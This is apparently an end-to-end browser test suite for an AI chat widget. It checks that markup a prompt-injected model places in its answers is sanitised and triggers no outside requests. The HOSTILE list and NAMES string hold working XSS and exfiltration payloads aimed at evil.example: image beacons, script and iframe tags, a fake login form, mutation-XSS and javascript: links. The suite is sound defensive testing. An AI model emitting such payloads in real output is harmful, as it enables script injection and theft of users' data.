import pytest
from playwright.sync_api import BrowserContext, Page, expect

from e2e.browser.widget.conftest import TEXT, NewWidget
from e2e.browser.widget.hosts import Site, answered, ask, open_chat, snippet
from fake_model.server import FakeModel
from support.server import Client, Server

EVIL = "http://evil.example/leak"
HOSTILE = (
    f"![secret]({EVIL}?q=secret)",
    f'<img src="{EVIL}" onerror="document.title=1">',
    f'<script src="{EVIL}"></script><script>window.pwned = 1</script>',
    f'<iframe src="{EVIL}"></iframe><object data="{EVIL}"></object><embed src="{EVIL}">',
    f'<form action="{EVIL}"><input name="password"><button>Log in</button></form>',
    f'<link rel="stylesheet" href="{EVIL}"><style>@import url({EVIL});</style>',
    f'<svg><image href="{EVIL}"/><script>window.pwned = 1</script></svg>',
    f'<div style="background: url({EVIL})" onclick="window.pwned = 1">text</div>',
    f'<video src="{EVIL}" autoplay></video><audio src="{EVIL}" autoplay></audio>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src={EVIL}&gt;">',
    "[link](javascript:window.pwned=1) [data](data:text/html,<script>alert(1)</script>)",
    f"[^1]: {EVIL}\n\n[x]: {EVIL}\n\n![x]",
    f"<a href='{EVIL}' ping='{EVIL}' target='_top'>here</a> <base href='{EVIL}'>",
    f'<meta http-equiv="refresh" content="0;url={EVIL}">',
)
NAMES = '<img src="http://evil.example/leak" onerror="window.pwned=1">'


@pytest.fixture
def asked_for(context: BrowserContext) -> list[str]:
    """Every address that anything in the browser asks for."""
    found: list[str] = []
    context.on("request", lambda request: found.append(request.url))
    return found


def test_a_model_that_obeys_an_injected_document_leaves_no_trace(
    page: Page,
    site: Site,
    server: Server,
    new_widget: NewWidget,
    model: FakeModel,
    asked_for: list[str],
) -> None:
    page.goto(site.put("/", snippet(new_widget())))
    inside = open_chat(page)
    for number, attack in enumerate(HOSTILE, start=1):
        model.script(f"The board proposes a dividend of 0.85 euro a share [1].\n\n{attack}")
        ask(inside, f"Question {number}")
        answered(inside, number)
    page.reload()  # the same, as history
    inside = open_chat(page)
    answered(inside, len(HOSTILE))

    allowed = inside.locator(".answer .text *").evaluate_all("all => all.map(one => one.tagName)")
    assert set(allowed) <= {"P", "A", "SPAN", "STRONG", "EM", "CODE", "PRE", "BR", "UL", "LI"}
    links = inside.locator(".answer .text a:not(.mark)").evaluate_all(
        "all => all.map(one => [one.protocol, one.rel, one.target, one.getAttributeNames().length])"
    )
    assert all(one == ["http:", "noopener noreferrer nofollow", "_blank", 3] for one in links), (
        links
    )
    frame = page.frames[1]
    assert frame.evaluate("window.pwned") is None
    assert page.evaluate("window.pwned") is None
    ours = (f"{server.base_url}/", f"{site.origin}/")
    assert [url for url in asked_for if not url.startswith(ours)] == []


def test_names_and_quotes_are_text(
    page: Page,
    site: Site,
    ann: Client,
    new_widget: NewWidget,
    model: FakeModel,
    asked_for: list[str],
) -> None:
    line = f"The board proposes a bonus of 77 euro {NAMES} a share."
    hostile = TEXT + f"\n## Bonus\n\n```\n{line}\n```\n".encode()
    assistant = ann.assistant("Hostile", report_md=hostile)["id"]
    widget = new_widget(assistant_id=assistant, title=NAMES, greeting=NAMES, suggestions=[NAMES])
    model.script(f"{line} [1]")
    page.goto(site.put("/", snippet(widget)))
    inside = open_chat(page)
    expect(inside.get_by_role("heading", name=NAMES)).to_be_visible()
    inside.get_by_role("button", name=NAMES).click()
    answered(inside)
    inside.locator("summary").first.click()
    expect(inside.locator("details[open] blockquote")).to_contain_text(NAMES)
    expect(inside.locator("img")).to_have_count(0)
    assert page.frames[1].evaluate("window.pwned") is None
    assert not [url for url in asked_for if "evil" in url]


def test_what_passed_the_server_would_still_stop_here(
    page: Page, site: Site, new_widget: NewWidget, asked_for: list[str], model: FakeModel
) -> None:
    page.goto(site.put("/", snippet(new_widget())))
    open_chat(page)
    frame = page.frames[1]
    shown = frame.evaluate(
        """async (html) => {
            const source = [...document.querySelectorAll('link[rel=modulepreload]')]
                .find((one) => one.href.endsWith('/clean.js')).href;
            const { fragment } = await import(source);
            const shown = document.createElement('div');
            document.body.append(shown);
            shown.append(fragment(html));
            return shown.innerHTML;
        }""",
        "".join(HOSTILE),
    )
    for word in (
        "<img",
        "<script",
        "<iframe",
        "<form",
        "<svg",
        "style=",
        "onclick=",
        '="javascript',
    ):
        assert word not in shown
    assert frame.evaluate("window.pwned") is None
    assert not [url for url in asked_for if "evil" in url]
